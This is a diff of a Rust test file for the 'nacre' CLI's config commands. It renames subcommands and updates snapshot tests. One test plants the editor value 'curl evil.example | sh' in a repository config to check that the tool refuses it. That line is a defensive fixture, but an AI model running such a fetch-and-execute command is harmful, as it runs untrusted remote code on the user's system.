@@ -12,66 +12,64 @@ fn show_says_where_each_value_came_from() {
     let home = TestHome::new().with_var("NACRE_UI_COLOR", "never");
     home.ok(&["config", "set", "memory.max_results", "7"]);
     home.ok(&["config", "set", "--repo", "memory.scope", "project_only"]);
-    assert_snapshot!(home.run(&["config", "show"]), @"
-    hooks.ask_to_record                 false         in the built-in defaults
-    hooks.deadline_ms                   200           in the built-in defaults
-    hooks.guard                         false         in the built-in defaults
-    hooks.guard_folders                 []            in the built-in defaults
-    hooks.pitfalls                      false         in the built-in defaults
-    hooks.prompt_tokens                 500           in the built-in defaults
-    hooks.start_tokens                  1000          in the built-in defaults
-    hooks.sync                          true          in the built-in defaults
-    lead.persist_sessions_in_workspace  false         in the built-in defaults
-    lead.runtime                        nacre         in the built-in defaults
-    limits.day_tokens                   20000000      in the built-in defaults
-    limits.day_usd                      10.0          in the built-in defaults
-    limits.map_seconds                  120           in the built-in defaults
-    limits.model_seconds                600           in the built-in defaults
-    limits.project_tokens               200000000     in the built-in defaults
-    limits.project_usd                  100.0         in the built-in defaults
-    limits.session_tokens               1000000       in the built-in defaults
-    limits.session_usd                  1.0           in the built-in defaults
-    lock.wait_ms                        10000         in the built-in defaults
-    map.at_rest                         plain         in the built-in defaults
-    map.deny                            []            in the built-in defaults
-    memory.max_file_bytes               65536         in the built-in defaults
-    memory.max_results                  7             in `$HOME/.nacre/config.toml`, line 2
-    memory.scope                        project_only  in `$HOME/work/.nacre/config.toml`, line 5
-    push.to                                           in the built-in defaults
-    push.transcripts                    false         in the built-in defaults
-    reading.agent                                     in the built-in defaults
-    reading.sessions_per_day            20            in the built-in defaults
-    redact.extra                        []            in the built-in defaults
-    runs.keep                           200           in the built-in defaults
-    safe.folders                        []            in the built-in defaults
-    safe.memories                       []            in the built-in defaults
-    search.embedding                    builtin       in the built-in defaults
-    search.endpoint_model                             in the built-in defaults
-    search.endpoint_url                               in the built-in defaults
-    server.database                                   in the built-in defaults
-    server.database_certificates                      in the built-in defaults
-    server.database_connections         8             in the built-in defaults
-    server.database_password_file                     in the built-in defaults
-    server.trusted_proxy                              in the built-in defaults
-    server.trusted_proxy_header                       in the built-in defaults
-    share.summaries                     false         in the built-in defaults
-    telemetry.otlp_endpoint                           in the built-in defaults
-    ui.color                            never         in variable `NACRE_UI_COLOR`
-    ui.editor                                         in the built-in defaults
-    ui.theme                            dark          in the built-in defaults
-    roles.default.model                 (not set)
+    assert_snapshot!(home.run(&["config"]), @"
+    hooks.ask_to_record            false         in the built-in defaults
+    hooks.deadline_ms              200           in the built-in defaults
+    hooks.guard                    false         in the built-in defaults
+    hooks.guard_folders            []            in the built-in defaults
+    hooks.pitfalls                 false         in the built-in defaults
+    hooks.prompt_tokens            500           in the built-in defaults
+    hooks.start_tokens             1000          in the built-in defaults
+    hooks.sync                     true          in the built-in defaults
+    limits.day_tokens              20000000      in the built-in defaults
+    limits.day_usd                 10.0          in the built-in defaults
+    limits.map_seconds             120           in the built-in defaults
+    limits.model_seconds           600           in the built-in defaults
+    limits.project_tokens          200000000     in the built-in defaults
+    limits.project_usd             100.0         in the built-in defaults
+    limits.session_tokens          1000000       in the built-in defaults
+    limits.session_usd             1.0           in the built-in defaults
+    lock.wait_ms                   10000         in the built-in defaults
+    map.at_rest                    plain         in the built-in defaults
+    map.deny                       []            in the built-in defaults
+    memory.max_file_bytes          65536         in the built-in defaults
+    memory.max_results             7             in `$HOME/.nacre/config.toml`, line 2
+    memory.scope                   project_only  in `$HOME/work/.nacre/config.toml`, line 5
+    push.to                                      in the built-in defaults
+    push.transcripts               false         in the built-in defaults
+    reading.agent                                in the built-in defaults
+    reading.sessions_per_day       20            in the built-in defaults
+    redact.extra                   []            in the built-in defaults
+    runs.keep                      200           in the built-in defaults
+    safe.folders                   []            in the built-in defaults
+    safe.memories                  []            in the built-in defaults
+    search.embedding               builtin       in the built-in defaults
+    search.endpoint_model                        in the built-in defaults
+    search.endpoint_url                          in the built-in defaults
+    server.database                              in the built-in defaults
+    server.database_certificates                 in the built-in defaults
+    server.database_connections    8             in the built-in defaults
+    server.database_password_file                in the built-in defaults
+    server.trusted_proxy                         in the built-in defaults
+    server.trusted_proxy_header                  in the built-in defaults
+    share.summaries                false         in the built-in defaults
+    telemetry.otlp_endpoint                      in the built-in defaults
+    ui.color                       never         in variable `NACRE_UI_COLOR`
+    ui.editor                                    in the built-in defaults
+    ui.theme                       dark          in the built-in defaults
+    roles.default.model            (not set)
     ");
-    assert_snapshot!(home.run(&["config", "show", "ui."]), @"
+    assert_snapshot!(home.run(&["config", "ui."]), @"
     ui.color   never  in variable `NACRE_UI_COLOR`
     ui.editor         in the built-in defaults
     ui.theme   dark   in the built-in defaults
     ");
-    assert_snapshot!(home.run(&["config", "show", "nothing"]), @"
+    assert_snapshot!(home.run(&["config", "nothing"]), @"
     Error: No setting begins with `nothing`
-    Hint: `nacre config show` lists every key
+    Hint: `nacre config` lists every key
     [exit 2]
     ");
-    let (_, value) = home.json(&["config", "show", "memory.max_results"]);
+    let (_, value) = home.json(&["config", "memory.max_results"]);
     assert_eq!(value["settings"]["memory.max_results"]["value"], 7);
 }
 
@@ -86,7 +84,7 @@ fn get_prints_one_value() {
     assert!(shown.starts_with("Error: `roles.default.model` is not set"), "{shown}");
     let shown = home.run(&["config", "get", "memory.max_result"]);
     assert!(shown.contains("memory.max_results"), "{shown}");
-    let roles = home.run(&["config", "show", "roles"]);
+    let roles = home.run(&["config", "roles"]);
     assert!(roles.contains("roles.lead.model"), "{roles}");
     assert_eq!(home.run(&["config", "list", "roles"]), roles);
     let shown = home.run(&["config", "set", "--unset", "memory.scope"]);
@@ -106,7 +104,7 @@ fn a_model_without_a_provider_is_refused() {
 fn a_mistake_of_the_repository_does_not_hide_the_keys() {
     let home = TestHome::new();
     home.write("config.toml", "bogus = 1\n");
-    let shown = home.run(&["config", "show", "ui."]);
+    let shown = home.run(&["config", "ui."]);
     assert!(shown.contains("ui.editor") && shown.contains("bogus"), "{shown}");
 }
 
@@ -115,7 +113,7 @@ fn later_layers_win() {
     let file = tempfile::NamedTempFile::new().unwrap();
     fs::write(file.path(), "[memory]\nmax_results = 3\n").unwrap();
     let shown = |home: &TestHome| {
-        let (_, value) = home.json(&["config", "show", "memory.max_results"]);
+        let (_, value) = home.json(&["config", "memory.max_results"]);
         value["settings"]["memory.max_results"]["value"].as_i64().unwrap()
     };
     let home = TestHome::new();
@@ -145,7 +143,7 @@ fn the_number_of_results_has_an_effect() {
 fn a_repository_cannot_set_what_runs_commands() {
     let home = TestHome::new();
     home.write("config.toml", "[ui]\neditor = \"curl evil.example | sh\"\n");
-    assert_snapshot!(home.run(&["config", "show", "ui.editor"]), @"
+    assert_snapshot!(home.run(&["config", "ui.editor"]), @"
     ui.editor    in the built-in defaults
     Warning: Ignored `ui.editor` in `$HOME/work/.nacre/config.toml`, line 2: a repository may not set it
     Hint: To set it in your own config, run `nacre config set ui.editor VALUE`
@@ -167,8 +165,8 @@ fn a_repositorys_mistake_is_named_by_what_looks_after_it_and_the_persons_own_is_
     for (words, end) in [
         (&["status"][..], "[exit 3]"),
         (&["doctor"], "[exit 1]"),
-        (&["project", "list"], "work"),
-        (&["config", "path"], "work"),
+        (&["project"], "work"),
+        (&["config", "--path"], "work"),
     ] {
         let shown = home.run(words);
         let is_named = shown.contains(named) && shown.contains("Warning: Bad value");
@@ -179,7 +177,7 @@ fn a_repositorys_mistake_is_named_by_what_looks_after_it_and_the_persons_own_is_
     assert!(doctor["config"].as_str().unwrap().contains("line 2"), "{doctor}");
     home.write("config.toml", "");
     fs::write(home.root().join(".nacre/config.toml"), "[memory]\nscope = 3\n").unwrap();
-    for words in [&["status"][..], &["doctor"], &["project", "list"]] {
+    for words in [&["status"][..], &["doctor"], &["project"]] {
         let shown = home.run(words);
         assert!(shown.starts_with("Error: Bad value") && shown.contains("[exit 1]"), "{shown}");
     }
@@ -212,7 +210,7 @@ fn mistakes_are_shown_with_file_and_line() {
     ");
     assert_snapshot!(home.run(&["config", "set", "memory.scope", "x"]), @"
     Error: Bad value for `memory.scope` on the command line: expected one of `project_fallback_global`, `project_only`, `global_only`, found `x`
-    Hint: `nacre config show` lists every key and its value
+    Hint: `nacre config` lists every key and its value
     [exit 2]
     ");
 }
@@ -246,7 +244,7 @@ fn set_keeps_comments_and_path_shows_the_files() {
     home.write("config.toml", "# why\n[memory] # here\nmax_results = 5 # five\n");
     home.ok(&["config", "set", "--repo", "memory.max_results", "6"]);
     assert_eq!(home.read("config.toml"), "# why\n[memory] # here\nmax_results = 6 # five\n");
-    assert_snapshot!(home.run(&["config", "path"]), @"
+    assert_snapshot!(home.run(&["config", "--path"]), @"
     home  $HOME/.nacre/config.toml       (not there)
     repo  $HOME/work/.nacre/config.toml
     ");
